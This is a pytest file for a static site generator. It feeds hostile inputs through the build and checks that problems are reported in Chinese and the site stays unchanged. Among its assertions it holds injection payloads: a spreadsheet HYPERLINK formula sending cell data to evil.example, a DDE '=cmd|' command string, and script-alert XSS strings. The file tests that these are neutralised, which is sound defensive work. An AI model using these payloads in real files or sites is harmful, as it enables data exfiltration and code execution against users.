"""The hostile corpus (tests/hostile/cases.yaml), end to end through the real ``build`` command.

A good site is built once per session; each case starts from a copy of that project (mtimes kept),
puts its bad files in place and builds again. The build must fail with every expected problem, each
located (file, line or sheet and row, field) and explained in Chinese; the last good site must stay
exactly as it was (bytes and mtimes, nothing added, no temporary folders left); ``check`` must report
the same. The builds run with a memory limit and a timeout, so a loader that expands a "billion
laughs" or walks seventeen billion empty cells fails the test instead of the machine.
"""

from __future__ import annotations

import contextlib
import csv
import html
import io
import json
import os
import re
import resource
import shutil
import subprocess
import sys
import time
import urllib.parse
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml

from generator.model.problems import SHOWN, Problem, Report, printable
from generator.cli import main as cli_main
from generator.pipeline import load_and_judge
from plan_fixture import write_plan
from site_fixture import serve

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = Path(__file__).resolve().parent / "hostile"
MANIFEST = yaml.safe_load((HOSTILE / "cases.yaml").read_text(encoding="utf-8"))
CASES = {case["name"]: case for case in MANIFEST["cases"]}
NOT_UPDATED = "网站没有更新：上次生成的网站保持不变。"
MEMORY_LIMIT = 2 * 1024 ** 3  # bytes of address space for one failing build: far more than it needs
TIME_LIMIT = 30  # seconds for one failing build; a good one of the small plan takes about five
REPORT_LIMIT = 5000  # characters of stderr: one enormous cell must not flood the report
CJK = re.compile(r"[\u4e00-\u9fff]")


def make_root(root: Path) -> Path:
    """The good project: the fixture plan, the site settings and templates, and the base data."""
    root.mkdir(parents=True)
    shutil.copy(ROOT / "mkdocs.yml", root / "mkdocs.yml")
    shutil.copytree(ROOT / "templates", root / "templates")
    shutil.copytree(ROOT / "site_config", root / "site_config")
    write_plan(root)
    for target, source in MANIFEST["base"].items():
        (root / target).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(HOSTILE / source, root / target)
    return root


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


# Root reads files whatever their mode; without these capabilities it is refused like any other user.
AS_BUILD_USER = ["setpriv", "--inh-caps=-dac_override,-dac_read_search", "--bounding-set=-dac_override,-dac_read_search"]


def build_user(case: dict | None) -> list[str]:
    """The command prefix that makes a case's unreadable files unreadable to the build."""
    return AS_BUILD_USER if case and case.get("unreadable") and os.geteuid() == 0 else []


def run_build(root: Path, limited: bool = True, case: dict | None = None, command: str = "build") -> subprocess.CompletedProcess:
    # cwd is the project: a YAML tag that managed to run "touch HACKED" would leave the file there.
    return subprocess.run([*build_user(case), sys.executable, "-m", "generator", "--root", str(root), command], cwd=root,
                          capture_output=True, text=True, timeout=TIME_LIMIT if limited else 600,
                          preexec_fn=_limit_memory if limited else None)


LIST_PROBLEMS = ("import json, sys; from pathlib import Path; from generator.pipeline import load_and_judge; "
                 "print(json.dumps([[p.code, p.file, p.line, p.sheet, p.row, p.field] "
                 "for p in load_and_judge(Path(sys.argv[1])).problems]))")


def problems_of(root: Path, case: dict) -> list[tuple]:
    """(code, file, line, sheet, row, field) of every problem, read as the build user reads."""
    if not build_user(case):
        return [(p.code, p.file, p.line, p.sheet, p.row, p.field) for p in load_and_judge(root).problems]
    result = subprocess.run([*build_user(case), sys.executable, "-c", LIST_PROBLEMS, str(root)],
                            capture_output=True, text=True, check=True)
    return [tuple(p) for p in json.loads(result.stdout)]


def apply(case: dict, root: Path) -> None:
    for target, source in (case.get("files") or {}).items():
        (root / target).parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(HOSTILE / source, root / target)
    for target, pointing_to in (case.get("links") or {}).items():
        (root / target).unlink(missing_ok=True)
        (root / target).symlink_to(pointing_to if pointing_to.startswith("/") else HOSTILE / pointing_to)
    for target in case.get("remove") or []:
        (root / target).unlink()
    for target in case.get("unreadable") or []:
        (root / target).chmod(0)


def snapshot(root: Path) -> dict[str, tuple]:
    """Every file and folder of site/ and build/: bytes and mtime (and the inode of site/ itself)."""
    state: dict[str, tuple] = {}
    for folder in ("site", "build"):
        top = root / folder
        for path in [top, *top.rglob("*")]:
            info = path.lstat()
            content = path.read_bytes() if path.is_file() else None
            state[path.relative_to(root).as_posix()] = (info.st_mtime_ns, info.st_ino if path == top else None, content)
    return state


def expected_problems(case: dict) -> list[tuple]:
    return sorted((e["code"], e["file"], e.get("line"), e.get("sheet"), e.get("row"), e.get("field", ""))
                  for e in case["expect"])


def location(expected: dict) -> str:
    """The location as the report prints it (escaped for the terminal), from the same code that prints it."""
    return printable(Problem(expected["code"], "", expected["file"], expected.get("field", ""), expected.get("line"),
                             expected.get("sheet"), expected.get("row")).location())


@pytest.fixture(scope="session")
def good_project(tmp_path_factory) -> Path:
    """The good project with its site, built once; every case starts from a copy."""
    root = make_root(tmp_path_factory.mktemp("hostile") / "good")
    result = run_build(root, limited=False)
    assert result.returncode == 0, result.stderr
    assert (root / "site" / "index.html").is_file()
    return root


@pytest.mark.slow
@pytest.mark.parametrize("name", CASES)
def test_hostile_input_fails_the_build_with_a_located_problem_and_keeps_the_site(good_project, tmp_path, name):
    case = CASES[name]
    root = tmp_path / "project"
    shutil.copytree(good_project, root, symlinks=True)  # copy2: mtimes kept
    entries = {p.name for p in root.iterdir()} | {Path(t).parts[0] for t in case.get("files") or {}}
    apply(case, root)
    before = snapshot(root)  # the project as the failing build finds it: the build must change nothing

    started = time.monotonic()
    build = run_build(root, case=case)
    took = time.monotonic() - started
    report = build.stderr

    # A clean failure: exit code 1, the report, no traceback, quickly, briefly.
    assert build.returncode == 1, report
    assert "Traceback" not in report, report
    assert report.rstrip().endswith(NOT_UPDATED), report
    assert f"发现 {len(case['expect'])} 个问题" in report, report
    assert len(report) < REPORT_LIMIT, f"{len(report)} characters of report"
    assert took < TIME_LIMIT
    # Every expected problem, at its location, explained in Chinese.
    lines = report.splitlines()
    for expected in case["expect"]:
        where = location(expected) + "："
        found = [line for line in lines if where in line]
        assert found, f"{where} not in:\n{report}"
        message = found[0].split(where, 1)[1].split("；")[0]
        assert CJK.search(message), found[0]
    # Nothing of a file the build must not read reaches the report.
    for secret in case.get("never_shown") or []:
        assert secret not in report, secret

    # The last good site is untouched: same bytes, same mtimes, nothing added; no staging folders left.
    assert snapshot(root) == before
    assert {p.name for p in root.iterdir()} == entries
    assert not any(p.name.startswith((".site-", "HACKED")) for p in root.iterdir())

    # The problems themselves: exactly those expected, codes and locations.
    problems = problems_of(root, case)
    assert sorted(problems) == expected_problems(case), "\n".join(map(str, problems))

    # check reports the same problems.
    if build_user(case):
        check = run_build(root, case=case, command="check")
        code, err = check.returncode, check.stderr
    else:
        out, stderr = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(stderr):
            code = cli_main(["--root", str(root), "check"])
        err = stderr.getvalue()
    assert code == 1
    assert err.strip() == report.rstrip().removesuffix(NOT_UPDATED).strip()


def test_corpus_is_complete_and_every_file_is_used():
    assert len(CASES) >= 40
    assert len(CASES) == len(MANIFEST["cases"]), "case names must be unique"
    used = {source for case in CASES.values() for source in (case.get("files") or {}).values()}
    used |= {source for case in CASES.values() for source in (case.get("links") or {}).values() if not source.startswith("/")}
    used |= set(MANIFEST["base"].values()) | set(MANIFEST["published"]["files"].values())
    on_disk = {p.relative_to(HOSTILE).as_posix() for p in HOSTILE.rglob("*")
               if p.is_file() and p.parent != HOSTILE and "__pycache__" not in p.parts}
    assert used == on_disk
    for name, case in CASES.items():
        assert case["expect"], name
        sources = [*(case.get("files") or {}).values(), *(case.get("links") or {}).values()]
        assert all(source.split("/")[1] == name for source in sources if not source.startswith("/")), name


def test_binary_cases_are_what_the_script_writes():
    # In its own process: the script chooses how openpyxl writes XML before openpyxl is imported.
    result = subprocess.run([sys.executable, str(HOSTILE / "make_binary_cases.py"), "--check"], capture_output=True, text=True)
    assert result.returncode == 0, f"run tests/hostile/make_binary_cases.py again:\n{result.stdout}{result.stderr}"


# Issue 10: what a good build publishes, and what happens to a build ---------------------------------

PUBLISHED = MANIFEST["published"]
EXTENSION_B_FONT = "HanaMinB"


def _page_text(page: str) -> str:
    return re.sub(r"\s+", "", html.unescape(re.sub(r"<[^>]+>", "", page)))


def _published_check(name: str, site: Path) -> None:
    downloads = site / "downloads"
    if name == "csv-cells-are-text":
        cells = [c for path in downloads.glob("*.csv")
                 for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for c in row]
        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" in cells and "'-2+3" in cells and "'@SUM(A1:A9)" in cells
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@")) and not re.fullmatch(r"[-+]?\d+(\.\d+)?", c)]
    elif name == "xlsx-has-no-formula":
        for path in downloads.glob("*.xlsx"):
            with zipfile.ZipFile(path) as archive:
                sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert sheets and not any(b"<f>" in sheet for sheet in sheets), path
            values = [c.value for row in openpyxl.load_workbook(path).active.iter_rows() for c in row]
            assert "'=cmd|' /C calc'!A0" in values  # the text, neutralised as in the CSV, as text
    elif name == "pdf-has-extension-b-font":
        pdf = next((downloads / "bulletins").glob("*-2022-bulletin.pdf"))
        fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True).stdout
        assert EXTENSION_B_FONT in fonts, fonts
    else:
        raise AssertionError(f"unknown check {name}")


@pytest.fixture(scope="module")
def published_project(good_project, tmp_path_factory) -> Path:
    """The good project with the allowed hostile text, built twice (the second build reads the ledger
    the first one wrote)."""
    root = tmp_path_factory.mktemp("published") / "project"
    shutil.copytree(good_project, root, symlinks=True)
    apply({"files": PUBLISHED["files"]}, root)
    for _ in range(2):
        result = run_build(root, limited=False)
        assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    return root


@pytest.mark.slow
def test_hostile_text_a_build_publishes(published_project):
    root = published_project
    pages = {p: p.read_text(encoding="utf-8") for p in (root / "site").rglob("*.html")}
    shown = "".join(_page_text(page) for page in pages.values())
    for path, page in pages.items():
        assert not re.search(r"<script>alert|<hr\b", page), path  # nothing from a file is live markup
        title = re.search(r"<title>(.*?)</title>", page, re.S).group(1)
        assert "<" not in title, (path, title)
    for case in PUBLISHED["cases"]:
        for text in case.get("shown") or []:
            assert re.sub(r"\s+", "", text) in shown, (case["name"], text)
        if case.get("check"):
            _published_check(case["check"], root / "site")


def test_every_event_of_the_manifest_is_held_by_a_test():
    for event in MANIFEST["events"]:
        path, name = event["test"].split("::")
        source = (ROOT / path).read_text(encoding="utf-8")
        assert re.search(rf"^def {name}\(", source, re.M), event["name"]


@pytest.mark.slow
def test_a_flood_of_problems_is_cut_to_a_readable_report():
    problems = [Problem("unknown-indicator", "规划中没有这个指标编号", "data/p/huge.csv", "指标编号", row=n) for n in range(2, 1_000_002)]
    report = Report(problems).render()
    assert report.startswith("发现 1000000 个问题")
    assert len(report.splitlines()) == 1 + SHOWN + 1
    assert report.splitlines()[-1].strip() == f"……及其他 {1_000_000 - SHOWN} 个问题（改好以上问题后重新运行即可看到）"


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.parametrize("query, title", [("校园足球", "专栏 1：校园足球<script>alert(2)</script>"),
                                          ("乙", "乙<script>alert(1)</script>区")])
def test_hostile_names_in_search_results_are_text(published_project, browser, query, title):
    url, server = serve(published_project / "site")
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        page.goto(url + "search/?q=" + urllib.parse.quote(query))
        page.wait_for_selector(".site-search-page__link")
        titles = page.eval_on_selector_all(".site-search-page__link", "links => links.map(a => a.textContent)")
        live = page.evaluate("document.querySelectorAll('.site-search-page script, .site-search-page img').length")
    finally:
        page.close()
        server.shutdown()
    assert any(title in shown for shown in titles), titles  # shown as written, as text
    assert dialogs == [] and live == 0


@pytest.mark.slow
@pytest.mark.browser
def test_search_excerpts_read_as_the_page_does(published_project, browser):
    """Issue 19: text that looks like markup or an entity is shown in the excerpt exactly as on the page."""
    url, server = serve(published_project / "site")
    page = browser.new_page()
    try:
        page.goto(url + "search/?q=" + urllib.parse.quote("粗体"))
        page.wait_for_selector(".site-search-page__excerpt")
        excerpts = page.eval_on_selector_all(".site-search-page__excerpt", "ps => ps.map(p => p.textContent)")
        markup = page.evaluate("document.querySelectorAll('.site-search-page__excerpt b').length")
        page.goto(url + "plans/demo-2021-2025/columns/1/")
        shown = page.inner_text("article")
    finally:
        page.close()
        server.shutdown()
    written = "&lt;b&gt;粗体&lt;/b&gt; 与 <b>粗体乙</b> 与 &amp; 号"
    assert written in shown
    assert any(written in excerpt for excerpt in excerpts), excerpts
    assert markup == 0
